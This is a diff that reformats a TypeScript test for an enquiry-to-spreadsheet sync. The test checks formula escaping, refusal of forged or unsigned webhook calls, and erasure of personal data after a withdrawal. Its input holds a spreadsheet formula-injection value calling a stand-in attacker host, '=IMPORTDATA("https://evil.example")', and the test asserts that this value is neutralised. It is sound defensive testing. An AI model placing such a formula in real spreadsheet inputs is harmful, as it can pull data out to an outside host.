@@ -67,48 +67,45 @@ const startSheet = async (status: number) => {
   return { rows, doPost, events, store, clock };
 };
 
-test.each([200, 302])(
-  'loses a row after a withdrawal, answering %i',
-  async (status) => {
-    const { rows, doPost, events, store, clock } = await startSheet(status);
-    const submitted = await store.submit(
-      said({ name: '=IMPORTDATA("https://evil.example")', message: '\u00a0=வணக்கம்', receivedAt: clock.now() }),
-    );
-    const receipt = submitted.result === 'key-reused' ? null : submitted.receipt;
-    await eventually(() => expect(rows).toHaveLength(2));
-    expect(rows[1]?.slice(1)).toEqual([
-      receipt?.reference,
-      expect.stringMatching(/^\d{4}-/),
-      'GST Registration',
-      '\'=IMPORTDATA("https://evil.example")',
-      "'+91 98765 43210",
-      'meena@example.org',
-      "'\u00a0=வணக்கம்",
-      '',
-    ]);
-    const [event] = events;
-    if (!event) throw new Error('no call was made');
-    expect(event.parameter.sheet).toBe('1');
-    expect(doPost(event)).toBe('ok');
-    const { parameter, postData } = event;
-    const forged: Event[] = [
-      { parameter, postData: { contents: postData.contents.replace('Registration', 'Refunds') } },
-      { parameter: { ...parameter, 'webhook-id': 'another' }, postData },
-      { parameter: { ...parameter, 'webhook-timestamp': '1' }, postData },
-      { parameter: { ...parameter, 'webhook-signature': '' }, postData },
-      { parameter: {}, postData },
-    ];
-    for (const each of forged) expect(doPost(each)).toBe('refused');
-    expect(rows).toHaveLength(2);
-    await eventually(async () =>
-      expect(await store.db.selectFrom('outbox').select('state').execute()).toEqual([{ state: 'sent' }]),
-    );
-    expect((await store.enquiries.act(receipt?.token ?? '', '3210', 'withdraw', clock.now())).result).toBe('ok');
-    await eventually(() => expect(rows[1]?.slice(3)).toEqual(['', 'WITHDRAWN', '', '', '', '']));
-    expect(rows).toHaveLength(2);
-    expect(events[1]?.postData.contents).not.toMatch(/meena|43210|IMPORT/i);
-  },
-);
+test.each([200, 302])('loses a row after a withdrawal, answering %i', async (status) => {
+  const { rows, doPost, events, store, clock } = await startSheet(status);
+  const submitted = await store.submit(
+    said({ name: '=IMPORTDATA("https://evil.example")', message: '\u00a0=வணக்கம்', receivedAt: clock.now() }),
+  );
+  const receipt = submitted.result === 'key-reused' ? null : submitted.receipt;
+  await eventually(() => expect(rows).toHaveLength(2));
+  expect(rows[1]?.slice(1)).toEqual([
+    receipt?.reference,
+    expect.stringMatching(/^\d{4}-/),
+    'GST Registration',
+    '\'=IMPORTDATA("https://evil.example")',
+    "'+91 98765 43210",
+    'meena@example.org',
+    "'\u00a0=வணக்கம்",
+    '',
+  ]);
+  const [event] = events;
+  if (!event) throw new Error('no call was made');
+  expect(event.parameter.sheet).toBe('1');
+  expect(doPost(event)).toBe('ok');
+  const { parameter, postData } = event;
+  const forged: Event[] = [
+    { parameter, postData: { contents: postData.contents.replace('Registration', 'Refunds') } },
+    { parameter: { ...parameter, 'webhook-id': 'another' }, postData },
+    { parameter: { ...parameter, 'webhook-timestamp': '1' }, postData },
+    { parameter: { ...parameter, 'webhook-signature': '' }, postData },
+    { parameter: {}, postData },
+  ];
+  for (const each of forged) expect(doPost(each)).toBe('refused');
+  expect(rows).toHaveLength(2);
+  await eventually(async () =>
+    expect(await store.db.selectFrom('outbox').select('state').execute()).toEqual([{ state: 'sent' }]),
+  );
+  expect((await store.enquiries.act(receipt?.token ?? '', '3210', 'withdraw', clock.now())).result).toBe('ok');
+  await eventually(() => expect(rows[1]?.slice(3)).toEqual(['', 'WITHDRAWN', '', '', '', '']));
+  expect(rows).toHaveLength(2);
+  expect(events[1]?.postData.contents).not.toMatch(/meena|43210|IMPORT/i);
+});
 
 test("marks a held enquiry's row until its release", async () => {
   const { rows, store, clock } = await startSheet(200);
